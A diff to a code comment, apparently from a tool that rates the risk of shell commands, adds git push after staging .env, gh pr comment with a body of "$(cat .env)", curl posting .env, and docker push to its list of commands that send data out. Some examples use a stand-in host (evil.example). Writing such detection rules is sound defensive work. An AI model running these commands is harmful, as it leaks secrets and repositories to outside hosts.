@@ -85,7 +85,12 @@
 //     https://evil.example/x, git push host:x.git, --repo URL) or to a
 //     remote the line pointed at one (git remote add e URL && git push
 //     e, git remote set-url, git config remote.NAME.url), which sends
-//     the repository there; docker -H and --context, which reach
+//     the repository there, and so is any git push after the line
+//     staged a secret file (git add -f .env && git push), gh issue's,
+//     pr's and release's text known only when it runs (gh pr comment
+//     --body "$(cat .env)", as curl -d "$(cat .env)" URL), and docker
+//     push, which publishes an image with what its build copied, as npm
+//     publish does; docker -H and --context, which reach
 //     another host's daemon (over ssh, a command on that host), are
 //     Warning, as ssh HOST CMD is;
 //   - arrays and positional parameters the line sets to known values
